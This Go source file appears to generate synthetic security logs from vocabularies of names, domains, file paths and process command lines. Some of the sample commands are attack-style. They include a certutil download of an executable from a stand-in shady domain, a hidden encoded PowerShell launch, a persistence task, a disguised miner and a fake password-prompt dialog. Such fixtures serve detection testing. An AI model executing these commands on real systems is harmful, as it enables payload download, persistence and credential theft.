package synth

// Raw vocabularies. They are plain Go strings; the world escapes them once.
// Unicode, apostrophes, quotes, spaces and backslashes are deliberate: export
// code must cope with them.

var firstNames = []string{
	"alice", "bob", "carol", "david", "emma", "farid", "grace", "hiro", "ines", "jürgen",
	"kofi", "lena", "mateo", "nadia", "oliver", "priya", "quentin", "rosa", "søren", "tomás",
	"uma", "victor", "wei", "xavier", "yuki", "zoë", "łukasz", "chloé", "andrés", "fatima",
	"sean", "maría", "jonas", "aiko", "omar", "elif", "noah", "ana", "björn", "mei",
}

var lastNames = []string{
	"nguyen", "smith", "müller", "garcía", "kowalski", "dubois", "tanaka", "okafor", "patel", "rossi",
	"johansson", "o'brien", "nielsen", "silva", "kim", "ivanova", "andersen", "fernández", "schmidt", "haddad",
	"yılmaz", "novák", "brown", "lefèvre", "costa", "chen", "singh", "weber", "moreau", "sato",
}

var serviceAccounts = []string{"svc_backup", "svc_sql", "svc_jenkins", "administrator", "ansible", "deploy"}

// invalidUsers are what internet SSH scanners try.
var invalidUsers = []string{"admin", "test", "oracle", "ubuntu", "user", "pi", "postgres", "guest", "support", "ftpuser"}

var countries = []string{"US", "DE", "FR", "GB", "NL", "BR", "IN", "CN", "RU", "VN", "KR", "SG", "JP", "CA", "UA", "RO", "ZA", "AU", "SE", "TR"}

var benignDomains = []string{
	"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "api.github.com",
	"slack.com", "wss-primary.slack.com", "zoom.us", "update.microsoft.com", "ctldl.windowsupdate.com",
	"s3.amazonaws.com", "ec2.eu-west-1.amazonaws.com", "storage.googleapis.com", "cdn.jsdelivr.net", "registry.npmjs.org",
	"pypi.org", "files.pythonhosted.org", "proxy.golang.org", "www.bbc.co.uk", "en.wikipedia.org",
	"www.linkedin.com", "teams.microsoft.com", "graph.microsoft.com", "acme.okta.com", "ocsp.digicert.com",
	"time.cloudflare.com", "dl.google.com", "www.youtube.com", "docs.google.com", "api.openai.com",
	"crl.pki.goog", "download.docker.com", "auth.docker.io", "archive.ubuntu.com", "security.debian.org",
	"www.bücher.de", "xn--80ak6aa92e.com", "static.zdassets.com", "sentry.io", "api.segment.io",
}

var shadyDomains = []string{
	"x7f3k2q.top", "update-check.xyz", "cdn-secure-login.net", "micros0ft-support.com", "pastebin.com",
	"transfer.sh", "raw.githubusercontent.com", "ngrok-free.app", "dl-files.ru", "temp-mail.io",
}

var urlPaths = []string{
	"/", "/index.html", "/api/v1/events", "/login", "/oauth2/v2.0/token", "/v2/library/alpine/manifests/3.19",
	"/simple/requests/", "/search?q=quarterly+report&hl=en", "/wp-admin/admin-ajax.php", "/static/js/app.3f9c1.js",
	"/download/setup.exe", "/a.ps1", "/upload", "/favicon.ico", "/.well-known/openid-configuration",
}

var httpMethods = []string{"GET", "GET", "GET", "GET", "POST", "POST", "PUT", "HEAD", "OPTIONS"}

var httpStatuses = []int{200, 200, 200, 200, 200, 204, 301, 302, 304, 400, 401, 403, 404, 500, 502}

var userAgents = []string{
	`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36`,
	`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15`,
	`Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0`,
	`curl/8.5.0`,
	`python-requests/2.32.3`,
	`Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)`,
	`Go-http-client/2.0`,
	`PowerShell/7.4 "WindowsPowerShell"`,
}

// Documents users touch. "%s"-free on purpose: paths are joined at run time.
var windowsDocs = []string{
	`Q3 Résumé.docx`, `Budget 2026 (final).xlsx`, `報告書_2026.pdf`, `invoice#4471.pdf`, `passwords.txt`,
	`📊 board deck.pptx`, `Zoom Installer.msi`, `setup.exe`, `Straße_Plan.vsdx`, `notes "draft".txt`,
	`scan_0042.tif`, `Договор.pdf`, `payroll_export.csv`, `holiday-photo.jpg`, `VPN config.ovpn`,
}

var windowsDocDirs = []string{`Documents`, `Downloads`, `Desktop`, `AppData\Local\Temp`, `OneDrive - ACME\Shared`}

var windowsSystemFiles = []string{
	`C:\Windows\System32\drivers\etc\hosts`, `C:\Windows\Temp\MpCmdRun.log`, `C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\04`,
	`C:\Windows\Prefetch\CMD.EXE-4A81B364.pf`, `C:\Users\Public\upd.exe`, `C:\Windows\System32\Tasks\Updater`,
}

var linuxFiles = []string{
	"/var/www/html/index.php", "/tmp/.x/kworker", "/etc/cron.d/backup", "/opt/app/config.yaml", "/etc/passwd",
	"/var/log/nginx/access.log", "/etc/ssh/sshd_config", "/usr/local/bin/node_exporter", "/tmp/backup.tgz", "/etc/sudoers.d/90-ansible",
}

var linuxHomeFiles = []string{".ssh/authorized_keys", ".bash_history", "deploy/release notes.md", ".config/app/settings.json", "Téléchargements/rapport.pdf"}

var macHomeFiles = []string{
	"Downloads/Invoice 2026-03.pdf", "Library/LaunchAgents/com.update.agent.plist", "Documents/Präsentation.key",
	"Desktop/Screenshot 2026-01-05 at 09.41.12.png", "Downloads/zoomusInstallerFull.pkg",
}

var macSystemFiles = []string{"/Library/LaunchDaemons/com.example.helper.plist", "/private/tmp/zoom.pkg", "/etc/hosts", "/private/var/log/install.log"}

type cmdSpec struct {
	os   osKind
	args []string // args[0] as the process saw it; exe is the resolved path
	exe  string
	user bool // runs as the logged-in user rather than a service account
}

var commands = []cmdSpec{
	{osWindows, []string{`C:\Windows\System32\cmd.exe`, "/c", "whoami", "/all"}, `C:\Windows\System32\cmd.exe`, true},
	{osWindows, []string{"powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", `C:\Scripts\inventory.ps1`}, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, false},
	{osWindows, []string{"powershell.exe", "-w", "hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, true},
	{osWindows, []string{"net.exe", "user", "/domain"}, `C:\Windows\System32\net.exe`, true},
	{osWindows, []string{"schtasks.exe", "/create", "/tn", "Updater", "/tr", `"C:\Users\Public\upd.exe"`, "/sc", "onlogon"}, `C:\Windows\System32\schtasks.exe`, true},
	{osWindows, []string{"reg.exe", "query", `HKLM\Software\Microsoft\Windows\CurrentVersion\Run`}, `C:\Windows\System32\reg.exe`, true},
	{osWindows, []string{"msiexec.exe", "/i", `C:\Users\Public\Downloads\Zoom Installer.msi`, "/qn"}, `C:\Windows\System32\msiexec.exe`, true},
	{osWindows, []string{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "--type=renderer", "--lang=de"}, `C:\Program Files\Google\Chrome\Application\chrome.exe`, true},
	{osWindows, []string{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "/n", `C:\Users\Public\Documents\Q3 Résumé.docx`}, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, true},
	{osWindows, []string{"certutil.exe", "-urlcache", "-split", "-f", "http://x7f3k2q.top/a.exe", `C:\Users\Public\a.exe`}, `C:\Windows\System32\certutil.exe`, true},
	{osWindows, []string{`C:\Windows\system32\svchost.exe`, "-k", "netsvcs", "-p"}, `C:\Windows\System32\svchost.exe`, false},
	{osWindows, []string{"notepad.exe", `C:\Users\Public\notes\todo list.txt`}, `C:\Windows\System32\notepad.exe`, true},
	{osWindows, []string{"rundll32.exe", `C:\Windows\System32\shell32.dll,Control_RunDLL`}, `C:\Windows\System32\rundll32.exe`, true},
	{osLinux, []string{"curl", "-fsSL", "https://get.docker.com"}, "/usr/bin/curl", true},
	{osLinux, []string{"/bin/bash", "-c", "tar czf /tmp/backup.tgz /var/www"}, "/usr/bin/bash", false},
	{osLinux, []string{"/usr/sbin/sshd", "-D"}, "/usr/sbin/sshd", false},
	{osLinux, []string{"python3", "/opt/app/manage.py", "migrate", "--noinput"}, "/usr/bin/python3.12", false},
	{osLinux, []string{"sudo", "systemctl", "restart", "nginx"}, "/usr/bin/sudo", true},
	{osLinux, []string{"docker", "run", "--rm", "-it", "alpine:3.19", "sh"}, "/usr/bin/docker", true},
	{osLinux, []string{"find", "/", "-perm", "-4000", "-type", "f"}, "/usr/bin/find", true},
	{osLinux, []string{"crontab", "-l"}, "/usr/bin/crontab", true},
	{osLinux, []string{"/tmp/.x/kworker", "-c", "pool.example:3333"}, "/tmp/.x/kworker", false},
	{osMac, []string{"osascript", "-e", `display dialog "Update required" default answer "" with hidden answer`}, "/usr/bin/osascript", true},
	{osMac, []string{"/Applications/Slack.app/Contents/MacOS/Slack"}, "/Applications/Slack.app/Contents/MacOS/Slack", true},
	{osMac, []string{"ssh", "-i", "~/.ssh/id_ed25519", "deploy@bastion01"}, "/usr/bin/ssh", true},
	{osMac, []string{"/usr/bin/curl", "-o", "/tmp/zoom.pkg", "https://zoom.us/client/latest/Zoom.pkg"}, "/usr/bin/curl", true},
}

// File writers by OS: the process credited with a file event.
var fileWriters = map[osKind][]cmdSpec{
	osWindows: {
		{osWindows, []string{`C:\Windows\explorer.exe`}, `C:\Windows\explorer.exe`, true},
		{osWindows, []string{`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`}, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, true},
		{osWindows, []string{`C:\Program Files\Google\Chrome\Application\chrome.exe`}, `C:\Program Files\Google\Chrome\Application\chrome.exe`, true},
		{osWindows, []string{`C:\Program Files\Windows Defender\MsMpEng.exe`}, `C:\Program Files\Windows Defender\MsMpEng.exe`, false},
	},
	osLinux: {
		{osLinux, []string{"nginx: worker process"}, "/usr/sbin/nginx", false},
		{osLinux, []string{"vim", "/etc/ssh/sshd_config"}, "/usr/bin/vim.basic", true},
		{osLinux, []string{"rsync", "-a", "/var/www/", "backup01:/srv/www/"}, "/usr/bin/rsync", false},
	},
	osMac: {
		{osMac, []string{"/Applications/Safari.app/Contents/MacOS/Safari"}, "/Applications/Safari.app/Contents/MacOS/Safari", true},
		{osMac, []string{"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder"}, "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", true},
	},
}
